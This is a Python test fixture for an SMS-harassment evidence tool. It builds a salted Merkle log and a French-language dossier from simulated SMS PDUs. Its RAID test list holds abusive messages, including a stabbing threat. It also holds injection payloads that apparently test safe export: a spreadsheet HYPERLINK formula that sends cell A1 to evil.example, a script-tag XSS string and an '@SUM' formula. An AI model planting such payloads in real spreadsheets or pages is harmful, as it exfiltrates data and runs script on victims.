"""A log and a dossier built the way the daemon will build them: records salted and hashed
into the RFC 6962 tree, messages from real SMS-DELIVER PDUs (the simulator's network side)."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from antirelou import flags as flagging
from antirelou.evidence.canonical import leaf_bytes, new_salt, record_digest
from antirelou.evidence.checkpoint import Checkpoint
from antirelou.evidence.merkle import Frontier, leaf_hash
from antirelou.evidence.verify import Content, LeafRow
from antirelou.export import model
from antirelou.numbers import classify
from antirelou.pdu import decode_deliver
from antirelou.simulator.network_pdu import DEFAULT_SMSC, encode_deliver

START = datetime(2017, 10, 30, 14, 0, tzinfo=UTC)


@dataclass
class Log:
    """An append-only log in memory: what the store will keep, in the same shapes."""

    leaves: list[LeafRow] = field(default_factory=list)
    contents: dict[tuple[str, int], Content] = field(default_factory=dict)
    frontier: Frontier = field(default_factory=Frontier)

    def append(self, kind: str, record_id: int, fields: dict) -> int:
        salt = new_salt()
        seq = len(self.leaves)
        digest = record_digest(salt, kind, record_id, fields)
        self.leaves.append(LeafRow(seq, kind, record_id, digest))
        self.contents[(kind, record_id)] = Content(salt, fields)
        self.frontier, _ = self.frontier.append(leaf_hash(leaf_bytes(seq, kind, record_id, digest)))
        return seq

    def content(self, kind: str, record_id: int) -> Content | None:
        return self.contents.get((kind, record_id))

    def checkpoint(self, at: datetime = START) -> Checkpoint:
        return Checkpoint(self.frontier.size, self.frontier.root(), at)


def _iso(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat(timespec="milliseconds")


def build(
    texts: Sequence[tuple[str, str]],
    *,
    spacing: timedelta = timedelta(minutes=7),
    start: datetime = START,
) -> tuple[Log, model.Dossier]:
    """Given (sender, text) pairs (text "" for a call), return the log they make and a
    dossier of every message, flagged by the default rules, each with a sent reply."""
    log = Log()
    messages = []
    pdu_id = 0
    for index, (sender, text) in enumerate(texts, start=1):
        received = start + spacing * index
        number = classify(sender or None, 33)
        pdus: list[model.Pdu] = []
        decoded = None
        if text:
            sent = (received - timedelta(seconds=4)).astimezone(ZoneInfo("Europe/Paris"))
            for hex_pdu in encode_deliver(sender, text, sent):
                pdu_id += 1
                seq = log.append(
                    "pdu", pdu_id, {"pdu": hex_pdu, "received_at": _iso(received), "sender": sender}
                )
                pdus.append(model.Pdu(pdu_id, hex_pdu, received, seq))
            decoded = decode_deliver(pdus[0].hex)
        kind = "sms" if text else "call"
        fields = {
            "kind": kind,
            "sender": sender or None,
            "sender_kind": number.kind.value,
            "text": text or None,
            "smsc_time": decoded.smsc_time.isoformat() if decoded else None,
            "received_at": _iso(received),
            "parts": len(pdus),
            "parts_expected": len(pdus),
            "encoding": decoded.encoding if decoded else None,
            "error": None,
        }
        seq = log.append("message", index, fields)
        found = flagging.match(text, flagging.DEFAULT_RULES)
        message_flags = []
        for flag in found:
            flag_id = len(log.leaves)
            log.append("flag", flag_id, {"message": index, "rule": flag.rule})
            message_flags.append(
                model.Flag(flag.rule, flag.reason, received, "antirelou", flag.matched)
            )
        reply = model.Reply("sent", "first message", "Ce numéro est un faux.", received, 1)
        messages.append(
            model.Message(
                id=index,
                kind=kind,
                sender=sender or None,
                sender_e164=number.e164,
                sender_kind=number.kind.value,
                received_at=received,
                smsc_time=fields["smsc_time"],
                smsc=DEFAULT_SMSC if text else None,
                text=text or None,
                parts=len(pdus),
                parts_expected=len(pdus),
                encoding=fields["encoding"],
                error=None,
                pdus=tuple(pdus),
                flags=tuple(message_flags),
                reply=reply if text else None,
                seq=seq,
            )
        )
    checkpoint = log.checkpoint(start + spacing * (len(texts) + 1))
    shown = [
        model.LoggedRecord(leaf.seq, leaf.kind, leaf.record_id, *_content(log, leaf))
        for leaf in log.leaves
        if leaf.kind in ("message", "pdu")
    ]
    dossier = model.Dossier(
        generated_at=start + spacing * (len(texts) + 2),
        generated_by="camille",
        zone="Europe/Paris",
        device=model.Device(
            imei="356938035643809",
            imsi="208150123456789",
            iccid="8933150319000123456",
            own_number="+33612345678",
            operator="Orange F",
            modem_manufacturer="huawei",
            modem_model="E3531",
            modem_firmware="22.521.23.00.00",
            software_version="0.1.0",
            clock_synchronised=True,
        ),
        filters=model.Filters(),
        checkpoint=checkpoint,
        messages=tuple(messages),
        senders=model.sender_summaries(messages),
        proof=model.Proof(tuple(log.leaves), tuple(shown)),
    )
    return log, dossier


def _content(log: Log, leaf: LeafRow) -> tuple[bytes, dict]:
    content = log.contents[(leaf.kind, leaf.record_id)]
    return content.salt, dict(content.fields)


RAID = [
    ("+33611111111", "Salut c'est Kevin du bar, on se voit quand ?"),
    ("+33622222222", "T'es qu'une salope"),
    ("0633333333", "Je sais où tu habites. 🔪"),
    ("+33622222222", '=HYPERLINK("http://evil.example/?"&A1,"cliquez")'),
    ("+33644444444", "<script>alert('x')</script> & <b>gras</b>"),
    ("+33611111111", "Réponds stp, c'était super hier soir à l'été indien 😂"),
    ("", ""),
    ("+33655555555", "j3 v4is t3 tu3r " + "et ce message est long. " * 8),
    ("+4915112345678", "@SUM(1+1) -2 +3 \tfin"),
]
